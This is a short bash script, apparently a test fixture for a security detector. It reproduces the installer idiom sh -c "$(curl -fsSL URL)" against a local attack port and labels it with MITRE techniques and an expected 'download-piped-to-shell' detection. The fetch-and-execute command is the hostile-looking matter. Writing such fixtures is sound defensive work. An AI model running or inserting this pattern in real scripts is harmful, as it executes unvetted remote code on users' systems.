#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: the Homebrew/rustup style installer `sh -c "$(curl -fsSL URL)"` that malicious CI steps copy: the downloaded script becomes sh's -c argument, never touching a pipe into the shell
# expect: download-piped-to-shell ^(da)?sh$
# exec-borne: yes
#
# The shell running this file captures curl's output by command
# substitution and hands the text to a new sh as its program.
set -u

readonly INSTALLER="http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh"
export NONINTERACTIVE=1

install_tool() {
	sh -c "$(curl -fsSL --connect-timeout 5 "$INSTALLER")"
}

if install_tool; then
	echo "tool installed"
else
	echo "install failed" >&2
	exit 1
fi
